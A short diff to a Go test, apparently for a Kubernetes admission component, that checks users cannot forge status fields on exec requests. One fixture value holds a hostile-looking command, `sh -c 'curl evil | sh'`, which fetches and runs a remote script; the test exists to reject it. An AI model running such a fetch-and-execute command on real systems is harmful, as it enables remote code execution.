@@ -257,7 +257,7 @@ func nobodyForgesWhatIsRun(t *testing.T, namespace string) {
 	t.Helper()
 	req := granted(t, alice, execRequest(namespace, "forged", "web"))
 	for text, says := range map[string]string{
-		`{"status":{"podName":"stray"}}`:                                              "only admitkit writes them",
+		`{"status":{"podName":"stray"}}`:                                              "status.podName and status.podUID cannot be changed", // says the CRD, as the Pod is chosen
 		`{"status":{"accessMessage":"kubectl exec stray -- sh -c 'curl evil | sh'"}}`: "only admitkit writes them",
 		`{"status":{"revokedAt":"0001-01-01T00:00:00Z"}}`:                             "status.revokedAt lies before the request was made",
 	} {
